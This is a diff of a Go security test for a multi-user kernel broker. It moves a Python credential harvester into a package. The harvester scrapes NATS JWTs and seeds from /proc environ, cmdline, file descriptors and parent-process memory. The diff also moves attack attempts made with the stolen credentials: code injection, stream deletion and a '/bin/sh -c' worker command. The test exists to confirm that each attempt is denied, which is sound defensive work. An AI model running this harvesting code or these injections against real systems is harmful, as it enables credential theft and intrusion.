@@ -7,123 +7,19 @@ import (
 	"encoding/json"
 	"fmt"
 	"os"
-	"path/filepath"
 	"strings"
-	"sync"
 	"testing"
 	"time"
 
 	"github.com/kernelbus/kernelbus/broker"
+	"github.com/kernelbus/kernelbus/e2e/attack"
 	"github.com/kernelbus/kernelbus/frontend/client"
 	kbjs "github.com/kernelbus/kernelbus/jetstream"
 	"github.com/kernelbus/kernelbus/jetstream/access"
 	"github.com/kernelbus/kernelbus/jetstream/jstest"
 	"github.com/nats-io/jwt/v2"
 	"github.com/nats-io/nats.go"
-	"github.com/nats-io/nkeys"
 )
-
-// hostileCell is what code in kernel A runs with Python's standard library
-// only: it reads everything about its launcher (the kernel's parent) that
-// the OS lets it read (environment, command line, open files and pipes,
-// and, where it may, the launcher's memory) and every other process's
-// environment and command line, and prints every NATS user JWT and nkey
-// seed it found, as JSON.
-const hostileCell = `
-import os, re, json
-found = {"uid": os.getuid(), "launcher_pid": os.getppid(), "jwts": [], "seeds": [], "sources": {}, "denied": []}
-JWT = re.compile(rb'eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{20,}\.[A-Za-z0-9_-]{20,}')
-SEED = re.compile(rb'S[UAOCN][A-Z2-7]{56}')
-def scan(src, data):
-    for rx, key in ((JWT, "jwts"), (SEED, "seeds")):
-        for m in rx.findall(data):
-            s = m.decode()
-            if s not in found[key]:
-                found[key].append(s)
-                found["sources"][src] = found["sources"].get(src, 0) + 1
-def read(src, path, limit=1 << 22):
-    try:
-        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
-        try:
-            scan(src, os.read(fd, limit))
-        finally:
-            os.close(fd)
-    except ProcessLookupError:
-        pass
-    except Exception as e:
-        if len(found["denied"]) < 40:
-            found["denied"].append("%s %s: %s" % (src, path, type(e).__name__))
-ppid = os.getppid()
-scan("own environ", "\0".join(k + "=" + v for k, v in os.environ.items()).encode())
-for pid in os.listdir("/proc"):
-    if pid.isdigit():
-        read("environ", "/proc/%s/environ" % pid)
-        read("cmdline", "/proc/%s/cmdline" % pid)
-read("launcher environ", "/proc/%d/environ" % ppid)
-try:
-    for fd in os.listdir("/proc/%d/fd" % ppid):
-        p = "/proc/%d/fd/%s" % (ppid, fd)
-        found["sources"]["fd " + fd + " " + os.readlink(p)] = 0
-        read("launcher fd " + fd, p)
-except Exception as e:
-    found["denied"].append("launcher fds: %s" % type(e).__name__)
-try:
-    with open("/proc/%d/maps" % ppid) as maps, open("/proc/%d/mem" % ppid, "rb", 0) as mem:
-        for line in maps:
-            rng, perms = line.split()[:2]
-            lo, hi = (int(x, 16) for x in rng.split("-"))
-            if "r" not in perms or hi - lo > 1 << 28:
-                continue
-            try:
-                mem.seek(lo)
-                scan("launcher memory", mem.read(hi - lo))
-            except OSError:
-                pass
-except Exception as e:
-    found["denied"].append("launcher memory: %s" % type(e).__name__)
-print("FOUND" + json.dumps(found))
-`
-
-// loot is what the hostile cell printed.
-type loot struct {
-	UID     int            `json:"uid"`
-	PID     int            `json:"launcher_pid"`
-	JWTs    []string       `json:"jwts"`
-	Seeds   []string       `json:"seeds"`
-	Sources map[string]int `json:"sources"`
-	Denied  []string       `json:"denied"`
-}
-
-// attacker is a connection made with stolen credentials; it records the
-// permission violations the server reports.
-type attacker struct {
-	name string
-	nc   *nats.Conn
-	mu   sync.Mutex
-	errs []string
-}
-
-func (a *attacker) violations() []string {
-	a.mu.Lock()
-	defer a.mu.Unlock()
-	return append([]string{}, a.errs...)
-}
-
-// deniedTo waits for the server's permission violation naming subject.
-func (a *attacker) deniedTo(t *testing.T, what, kind, subject string) {
-	t.Helper()
-	want := strings.ToLower(kind + " to \"" + subject + "\"")
-	deadline := time.Now().Add(10 * time.Second)
-	for time.Now().Before(deadline) {
-		for _, e := range a.violations() {
-			if strings.Contains(strings.ToLower(e), want) {
-				return
-			}
-		}
-		time.Sleep(20 * time.Millisecond)
-	}
-	t.Errorf("%s with %s: no permission violation for %s; the server reported %v", what, a.name, want, a.violations())
-}
 
 // TestKernelCredentialsIsolated: two kernels of two users run on the
 // operator-mode TLS cluster. Code in kernel A collects every credential it
@@ -162,18 +58,13 @@ func TestKernelCredentialsIsolated(t *testing.T) {
 		t.Fatalf("B: %+v %v", r, err)
 	}
 
-	r, err := connA.Execute(hostileCell, 2*time.Minute)
+	r, err := connA.Execute(attack.HostileCell, 2*time.Minute)
 	if err != nil || r.Status != "ok" {
 		t.Fatalf("the hostile cell: %+v %v", r, err)
 	}
-	out := r.Stdout.String()
-	i := strings.Index(out, "FOUND")
-	if i < 0 {
-		t.Fatalf("the hostile cell printed %q", out)
-	}
-	var l loot
-	if err := json.Unmarshal([]byte(strings.TrimSpace(out[i+len("FOUND"):])), &l); err != nil {
-		t.Fatalf("the hostile cell's report: %v", err)
+	l, err := attack.ParseLoot(r.Stdout.String())
+	if err != nil {
+		t.Fatal(err)
 	}
 	t.Logf("kernel A (uid %d, launcher pid %d) found %d JWTs and %d seeds; sources %v; denied %d reads, e.g. %v",
 		l.UID, l.PID, len(l.JWTs), len(l.Seeds), l.Sources, len(l.Denied), l.Denied[:min(len(l.Denied), 5)])
@@ -183,22 +74,9 @@ func TestKernelCredentialsIsolated(t *testing.T) {
 		}
 	}
 
-	// Every JWT with every seed (a creds file pairs them; memory may hold
-	// them apart), plus A's own launcher credentials minted here.
-	type cred struct{ name, jwt, seed string }
-	var seeds []string
-	for _, s := range l.Seeds {
-		// Memory holds strings that only look like seeds.
-		if _, err := nkeys.FromSeed([]byte(s)); err == nil {
-			seeds = append(seeds, s)
-		}
-	}
-	var creds []cred
-	for ji, j := range l.JWTs[:min(len(l.JWTs), 6)] {
-		for si, s := range seeds[:min(len(seeds), 6)] {
-			creds = append(creds, cred{fmt.Sprintf("found JWT %d + seed %d", ji, si), j, s})
-		}
-	}
+	// Every credential found, plus A's own launcher credentials minted
+	// here (the most a kernel can hold).
+	creds := l.Creds()
 	minter, err := access.LoadMinter(c.CredsFile(access.MinterFileName))
 	if err != nil {
 		t.Fatal(err)
@@ -207,7 +85,7 @@ func TestKernelCredentialsIsolated(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	creds = append(creds, cred{"kernel A's own launcher credentials", mj, ms})
+	creds = append(creds, attack.Cred{Name: "kernel A's own launcher credentials", JWT: mj, Seed: ms})
 
 	ca, err := os.ReadFile(c.CAFile())
 	if err != nil {
@@ -225,28 +103,20 @@ func TestKernelCredentialsIsolated(t *testing.T) {
 
 	connected := 0
 	for _, cr := range creds {
-		at := &attacker{name: cr.name}
-		nc, err := nats.Connect(c.URLs(),
-			nats.UserJWTAndSeed(cr.jwt, cr.seed),
-			nats.Secure(),
-			nats.RootCAs(c.CAFile()),
-			nats.MaxReconnects(0),
-			nats.ErrorHandler(func(_ *nats.Conn, _ *nats.Subscription, err error) {
-				at.mu.Lock()
-				at.errs = append(at.errs, err.Error())
-				at.mu.Unlock()
-			}))
+		at, ok, err := attack.Dial(c.URLs(), c.CAFile(), cr)
 		if err != nil {
-			if !strings.Contains(strings.ToLower(err.Error()), "authorization") && !strings.Contains(strings.ToLower(err.Error()), "authentication") {
-				t.Errorf("%s: connect failed, but not on authorization: %v", cr.name, err)
-			}
+			t.Error(err)
+		}
+		if !ok {
 			continue
 		}
 		connected++
-		at.nc = nc
-		t.Run(cr.name, func(t *testing.T) {
-			defer nc.Close()
-			attack(t, c, at, a, b)
+		t.Run(cr.Name, func(t *testing.T) {
+			defer at.NC.Close()
+			attack.Run(t, at, a, b)
+			if _, err := c.FE(1).Kernel(context.Background(), b); err != nil {
+				t.Errorf("B after %s: %v", at.Name, err)
+			}
 		})
 	}
 	if connected == 0 {
@@ -261,97 +131,12 @@ func TestKernelCredentialsIsolated(t *testing.T) {
 	if r, err := connB.Execute("print(secret)", time.Minute); err != nil || strings.TrimSpace(r.Stdout.String()) != "bob-42" {
 		t.Fatalf("B after the attacks: %+v %v", r, err)
 	}
-	if _, err := os.Stat(pwnedFile(b)); err == nil {
+	if _, err := os.Stat(attack.PwnedFile(b)); err == nil {
 		t.Fatal("B ran code published by A")
 	}
 	for _, s := range []string{broker.StreamEvents, broker.StreamIO, "KV_" + broker.BucketKernels} {
 		if _, err := c.Bus.JS.Stream(ctx, s); err != nil {
 			t.Errorf("stream %s after the attacks: %v", s, err)
-		}
-	}
-}
-
-func pwnedFile(kernel string) string {
-	return filepath.Join(os.TempDir(), "kb-pwned-"+kernel)
-}
-
-// attack tries, with one stolen credential, everything kernel A's code
-// could do to B and the installation, and asserts each is denied.
-func attack(t *testing.T, c *Cluster, at *attacker, a, b string) {
-	nc := at.nc
-	// The credential is real: A's own control subject is allowed.
-	own, err := nc.Subscribe(broker.SubjectControl(a), func(*nats.Msg) {})
-	if err == nil {
-		_ = own.Unsubscribe()
-	}
-
-	var gotB sync.Map
-	sub := func(subject string) {
-		t.Helper()
-		if _, err := nc.Subscribe(subject, func(m *nats.Msg) { gotB.Store(m.Subject, true) }); err != nil {
-			t.Errorf("subscribe %s: %v", subject, err)
-		}
-		_ = nc.Flush()
-		at.deniedTo(t, "subscribe", "subscription", subject)
-	}
-	pub := func(subject string, data []byte) {
-		t.Helper()
-		if err := nc.Publish(subject, data); err != nil {
-			t.Errorf("publish %s: %v", subject, err)
-		}
-		_ = nc.Flush()
-		at.deniedTo(t, "publish", "publish", subject)
-	}
-
-	// Read B's output, live.
-	sub(broker.SubjectOutAll(b))
-	sub("kb.io.>")
-	sub(">")
-	// Steal B's control requests and its replies.
-	sub(broker.SubjectControl(b))
-	sub(broker.InboxPrefix(b) + ".>")
-	sub("_INBOX.>")
-	// Run code in B.
-	code := fmt.Sprintf("open(%q, 'w').write('pwned')", pwnedFile(b))
-	msg, _ := json.Marshal(map[string]any{"header": map[string]any{"msg_type": "execute_request", "msg_id": "evil"}, "content": map[string]any{"code": code}})
-	pub(broker.SubjectIn(b), msg)
-	// Interrupt or shut B down.
-	pub(broker.SubjectControl(b), []byte(`{"op":"`+broker.OpShutdown+`","request_id":"evil"}`))
-	// Read and change B's record and activity, and sessions.
-	pub("$JS.API.DIRECT.GET.KV_"+broker.BucketKernels+".$KV."+broker.BucketKernels+"."+b, nil)
-	pub("$JS.API.STREAM.MSG.GET.KV_"+broker.BucketKernels, []byte(`{"last_by_subj":"$KV.`+broker.BucketKernels+`.`+b+`"}`))
-	pub("$KV."+broker.BucketKernels+"."+b, []byte(`{"id":"`+b+`","state":"dead"}`))
-	pub("$KV."+broker.BucketActivity+"."+b, []byte(`{}`))
-	pub("$JS.API.DIRECT.GET.KV_"+broker.BucketSessions, []byte(`{"seq":1}`))
-	// Read B's history from KB_IO through a consumer of its own.
-	pub("$JS.API.CONSUMER.CREATE."+broker.StreamIO+".evil."+broker.SubjectOutAll(b), []byte(`{}`))
-	pub("$JS.API.CONSUMER.CREATE."+broker.StreamIO, []byte(`{}`))
-	pub("$JS.API.CONSUMER.INFO."+broker.StreamIO+"."+broker.InputConsumer(b), nil)
-	pub("$JS.API.CONSUMER.MSG.NEXT."+broker.StreamIO+"."+broker.InputConsumer(b), []byte(`{"batch":1}`))
-	// Erase the audit log and the records.
-	pub("$JS.API.STREAM.DELETE."+broker.StreamEvents, nil)
-	pub("$JS.API.STREAM.PURGE."+broker.StreamIO, nil)
-	pub("$JS.API.STREAM.DELETE.KV_"+broker.BucketKernels, nil)
-	pub("$JS.API.STREAM.LIST", nil)
-	// Make a worker run a command, or stop another kernel.
-	pub(broker.SubjectRequest(broker.VerbStart, broker.RMLocal), []byte(`{"argv":["/bin/sh","-c","touch /tmp/evil"]}`))
-	pub(broker.SubjectRequest(broker.VerbStop, broker.RMLocal), []byte(`{"kernel_id":"`+b+`"}`))
-	// Renew B's credentials.
-	pub(access.SubjectRenew(b), nil)
-
-	// Nothing of B's arrived on the denied subscriptions.
-	if _, err := c.FE(1).Kernel(context.Background(), b); err != nil {
-		t.Errorf("B after %s: %v", at.name, err)
-	}
-	gotB.Range(func(k, _ any) bool {
-		if s := k.(string); strings.Contains(s, b) {
-			t.Errorf("%s received B's message on %s", at.name, s)
-		}
-		return true
-	})
-	for _, e := range at.violations() {
-		if strings.Contains(strings.ToLower(e), "\""+strings.ToLower(broker.SubjectControl(a))+"\"") {
-			t.Errorf("A's own control subject was denied: the credentials are not A's (%s)", e)
 		}
 	}
 }
